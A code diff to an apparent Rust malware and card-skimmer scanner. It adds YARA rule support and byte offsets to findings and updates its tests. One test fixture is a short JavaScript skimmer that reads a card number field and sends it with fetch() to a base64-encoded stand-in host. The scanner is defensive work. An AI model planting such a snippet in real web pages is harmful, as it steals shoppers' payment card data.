@@ -7,6 +7,7 @@
 //! Japanese, and for exfiltration the destination host. Files whose SHA-256
 //! is on the rules' allow-list are skipped.
 
+use std::borrow::Cow;
 use std::path::Path;
 use std::sync::LazyLock;
 
@@ -23,16 +24,20 @@ pub const MAX_SCAN_BYTES: u64 = 32 << 20;
 /// One rule that matched.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize)]
 pub struct Finding {
-    /// The rule's stable id.
-    pub rule: &'static str,
-    /// 1-based line of the giveaway.
+    /// The rule's stable id (`yara.<file>.<rule>` for a user's YARA rule).
+    pub rule: Cow<'static, str>,
+    /// 1-based line of the giveaway (0 for a YARA rule that matched by its
+    /// condition alone, without a pattern).
     pub line: u64,
+    /// Byte offset of the giveaway, for YARA rules (their matches are bytes).
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub offset: Option<u64>,
     /// How much it matters.
     pub severity: Severity,
     /// Why it matters, in English.
-    pub why_en: &'static str,
+    pub why_en: Cow<'static, str>,
     /// Why it matters, in Japanese.
-    pub why_ja: &'static str,
+    pub why_ja: Cow<'static, str>,
     /// A host the data or form goes to, when the rule is about one.
     #[serde(skip_serializing_if = "Option::is_none")]
     pub destination: Option<String>,
@@ -110,11 +115,12 @@ fn info(id: &str) -> &'static RuleInfo {
 fn finding(id: &str, line: u64, destination: Option<String>) -> Finding {
     let rule = info(id);
     Finding {
-        rule: rule.id,
+        rule: Cow::Borrowed(rule.id),
         line,
+        offset: None,
         severity: rule.severity,
-        why_en: rule.why_en,
-        why_ja: rule.why_ja,
+        why_en: Cow::Borrowed(rule.why_en),
+        why_ja: Cow::Borrowed(rule.why_ja),
         destination,
     }
 }
@@ -211,7 +217,7 @@ fn kinds(path: &str, content: &[u8]) -> Kinds {
 }
 
 /// Line (1-based) of a byte offset.
-fn line_of(content: &[u8], offset: usize) -> u64 {
+pub(crate) fn line_of(content: &[u8], offset: usize) -> u64 {
     memchr::memchr_iter(b'\n', &content[..offset.min(content.len())]).count() as u64 + 1
 }
 
@@ -276,7 +282,7 @@ pub fn scan_bytes(path: &str, content: &[u8], rules: &Rules) -> Vec<Finding> {
     if out.iter().any(|f| f.rule == "obfuscation.eval-decoded") {
         out.retain(|f| f.rule != "obfuscation.encoded-strings");
     }
-    out.sort_by(|a, b| (a.line, a.rule).cmp(&(b.line, b.rule)));
+    out.sort_by(|a, b| (a.line, &a.rule).cmp(&(b.line, &b.rule)));
     out.dedup_by(|a, b| a.rule == b.rule && a.line == b.line);
     out
 }
@@ -467,7 +473,10 @@ pub fn scan_file(
     if rules.allow_listed(&sha) {
         return Ok(None);
     }
-    let findings = scan_bytes(path, &content, rules);
+    let mut findings = scan_bytes(path, &content, rules);
+    if let Some(yara) = rules.yara() {
+        findings.extend(yara.scan(&content));
+    }
     Ok(Some((sha, findings)))
 }
 
@@ -549,7 +558,7 @@ pub fn scan_tree(paths: &[std::path::PathBuf], rules: &Rules, threads: usize) ->
 mod tests {
     use super::*;
 
-    fn ids(path: &str, content: &str) -> Vec<&'static str> {
+    fn ids(path: &str, content: &str) -> Vec<Cow<'static, str>> {
         let rules = Rules::parse("[signatures]\nallowed_hosts = [\"pay.example\"]\ncard_inputs_allowed = [\"app/template/default/Shopping/payment.twig\"]\n").expect("rules");
         scan_bytes(path, content.as_bytes(), &rules)
             .into_iter()
@@ -586,7 +595,10 @@ mod tests {
     fn an_encoded_destination_still_counts() {
         let js = "var f = 'cc_number';\nvar u = atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU=');\nfetch(u, {body: document.getElementById(f).value});\n";
         let found = ids("html/js/x.js", js);
-        assert!(found.contains(&"skimmer.card-exfiltration"), "{found:?}");
+        assert!(
+            found.iter().any(|r| r == "skimmer.card-exfiltration"),
+            "{found:?}"
+        );
     }
 
     #[test]
@@ -664,7 +676,7 @@ mod tests {
         let rules = Rules::builtin();
         let found = scan_bytes("html/upload/save_image/a.gif", &gif, &rules);
         assert_eq!(found.len(), 1);
-        assert_eq!((found[0].rule, found[0].line), ("image.embedded-php", 2));
+        assert_eq!((found[0].rule.as_ref(), found[0].line), ("image.embedded-php", 2));
         assert!(scan_bytes("html/upload/save_image/b.png", b"\x89PNG\r\n\x1a\n....", &rules).is_empty());
         // An image named .php is still an image with PHP in it.
         let found = scan_bytes("html/upload/x.php", &gif, &rules);
